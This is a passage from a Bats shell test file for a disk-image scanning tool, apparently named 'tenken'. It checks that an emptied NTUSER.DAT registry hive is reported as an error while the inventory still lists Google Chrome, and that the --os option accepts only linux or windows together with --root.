    : >"$IMG/Users/alice/NTUSER.DAT"
    run "$TENKEN" scan --root "$IMG" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    validate "$OUT"
    jq -e '[.inventory[] | select(.name == "Google Chrome")] | length == 1' "$OUT"
    jq -e '[.errors[] | select(.message | test("NTUSER.DAT"))] | length >= 1' "$OUT"
}

@test "--os takes linux or windows only, and names the system under --root" {
    run "$TENKEN" scan --root "$IMG" --os beos --out "$OUT"
    [ "$status" -eq 2 ]
    [[ "$output" == *"--os must be linux or windows"* ]]
    run "$TENKEN" scan --os windows --out "$OUT"
    [ "$status" -eq 2 ]
    [[ "$output" == *"describes the system under --root"* ]]
}
